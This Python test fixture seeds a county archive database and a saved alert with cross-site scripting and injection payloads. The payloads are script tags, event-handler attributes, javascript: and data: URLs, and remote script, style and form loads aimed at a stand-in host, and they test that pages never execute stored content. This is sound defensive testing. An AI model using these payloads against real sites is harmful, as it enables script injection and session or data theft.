"""The county's archive with what an attacker would publish in every text that a page shows.

Whatever got past the readers, or stands in the file because someone else wrote it: the pages must not run or load it.
"""

from __future__ import annotations

import json
import sqlite3
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

from archive.alerts.saved import Alert, open_alerts
from archive.alerts.saved import add as add_alert
from archive.store import open_archive
from archive.upkeep.takedown import take_down
from tests.journeys import county
from tests.journeys.county import Library

ELSEWHERE = "http://127.0.0.1:9"
LONG = "W" * 300
NAME = "<img src=x onerror=alert(1)><svg onload=alert(2)>\"'>{{7*7}}&lt;b&gt;\u202e\u0007"
"""Without a slash, for what stands in addresses."""
TEXT = (
    f"<script>alert(3)</script><script src='{ELSEWHERE}/x.js'></script><img src='{ELSEWHERE}/x.png' onerror=alert(4)>"
    f"<svg><animate onbegin=alert(5) attributeName=x dur=1s></svg><style>body{{display:none}}"
    f"@import '{ELSEWHERE}/x.css';</style><meta http-equiv=refresh content='0;url={ELSEWHERE}/'>"
    f"<base href='{ELSEWHERE}/'><form action='{ELSEWHERE}/'><button>x</button></form>"
    f"<a href='javascript:alert(6)'>x</a><iframe src='data:text/html,<script>alert(7)</script>'></iframe>"
    f"</textarea></title></q>\"'><details open ontoggle=alert(8)>]]>--> {{{{7*7}}}} {{% raw %}} "
    f"\x01\x1b\u2066\u202e{LONG}"
)
SCRIPT = "javascript:alert(9)//"
DATA = "data:text/html,<script>alert(10)</script>"

# table -> what its columns get behind their text. Names stand in addresses; all else is TEXT.
_TEXTS = {
    "articles": "title body source author issuer index_number topic_class genre_class combo_class validity disclosure"
    " abstract keywords site_name published_at",
    "facts": "raw rule",
    "descriptions": "meeting meeting_number kind_rule",
    "people": "titles",
    "people_titles": "title",
    "runs": "note",
    "column_runs": "note",
    "fetches": "note",
    "listings": "listed_title",
    "pages": "listed_title reason",
    "captures": "reason",
    "states": "note",
    "changes": "note",
    "cooldowns": "reason",
    "issues": "note",
    "files": "title text reason",
    "enclosures": "name reason",
    "enclosed": "name",
    "takedowns": "reason by",
    "districts": "name",
}
_NAMES = {
    "articles": "column document_number family",
    "facts": "value",
    "people": "name",
    "people_titles": "name",
    "people_together": "name other",
    "people_years": "name",
    "columns": "name",
    "coverage": "column",
    "listings": "column",
    "column_runs": "column",
    "presence": "column",
    "citable": "form",
    "clusters": "document_number",
}
_LINKS = {"districts": "site", "columns": "url", "enclosures": "requested_url", "articles": "url"}


def build(folder: Path) -> Library:
    library = county.build(folder)
    with open_archive(library.path) as archive:
        (down,) = archive.db.conn.execute(
            "SELECT key FROM articles WHERE title LIKE '%馆参观须知' AND key NOT IN (?, ?, ?)",
            (library.edited, library.removed, library.copied),
        ).fetchone()
        take_down(archive, down, "reason", "by")
        _poison(archive.write())
        archive.commit()
    with open_alerts(library.path) as file:
        add_alert(file, Alert(NAME + LONG, "q=改造", "https://hook.example.org/x"), None, datetime.now(UTC))
    return replace(library, name=library.name + NAME, document=library.document + NAME, down=down)


def _poison(conn: sqlite3.Connection) -> None:
    """Behind the text, so that the places of facts stay. Triggers carry titles, columns and marks on to the index."""
    conn.execute("DROP TRIGGER versions_stand")
    conn.execute(
        "INSERT OR REPLACE INTO files (sha256, snapshot_id, bytes, state, kind, text)"
        " VALUES (?, 1, 9, 'read', 'pdf', ?)",
        ("f" * 64, "第一条\n"),
    )
    conn.execute("UPDATE enclosures SET state = 'stored', sha256 = ?", ("f" * 64,))
    conn.execute("UPDATE districts SET code = '330106'")
    for columns, poison in ((_NAMES, NAME), (_TEXTS, TEXT)):
        for table, names in columns.items():
            sets = ", ".join(f'"{name}" = "{name}" || :poison' for name in names.split())
            conn.execute(f"UPDATE {table} SET {sets}", {"poison": poison})
    for table, name in _LINKS.items():
        conn.execute(f'UPDATE {table} SET "{name}" = :link || "{name}"', {"link": SCRIPT})
    links = json.dumps([{"url": SCRIPT, "text": TEXT}, {"url": DATA, "text": NAME}])
    rest = (links, links, json.dumps([[NAME, TEXT]]), json.dumps([NAME, "no_date"]), json.dumps({"title": TEXT}))
    conn.execute("UPDATE articles SET attachments = ?, images = ?, credits = ?, flags = ?, rules = ?", rest)
    conn.execute("UPDATE descriptions SET keywords = ?, kind = kind || ?", (json.dumps([TEXT]), NAME))
    conn.execute("UPDATE relations SET changed = ?", (json.dumps([[TEXT, NAME]]),))
    conn.execute("INSERT OR REPLACE INTO descriptions SELECT * FROM descriptions")  # marks are made of it
    for key, number, said in conn.execute("SELECT article_key, number, said FROM versions").fetchall():
        conn.execute(
            "UPDATE versions SET said = ? WHERE article_key = ? AND number = ?", (_said(said, number), key, number)
        )


def _said(text: str, number: int) -> str:
    """A version whose title, fields and lines are hostile, and different from the other's."""
    said = json.loads(text)
    said["title"] += TEXT
    said["fields"] = {**said["fields"], "source": f"{TEXT}{number}"}
    said["lines"] = [*said["lines"], f"{TEXT}{number}", f"{number}{NAME}"]
    said["files"] = [[TEXT, SCRIPT]] * number
    return json.dumps(said)
